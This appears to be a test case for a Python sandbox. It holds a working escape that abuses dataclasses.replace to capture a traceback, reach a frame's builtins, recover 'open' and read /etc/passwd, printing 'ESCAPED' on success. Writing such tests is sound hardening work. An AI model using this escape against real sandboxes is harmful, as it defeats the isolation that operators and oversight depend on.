# tries: replace reads a field whose name was changed
# class: dataclass
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import dataclasses


@dataclasses.dataclass
class E(Exception):
    x: int = 0
    seen = []

    def __post_init__(self):
        pass


def init(self, **changes):
    E.seen.append(changes)


dataclasses.fields(E)[0].name = "__traceback__"
E.__init__ = init
try:
    raise E()
except E as error:
    dataclasses.replace(error)
use(pick(E.seen[-1]["__traceback__"].tb_frame))
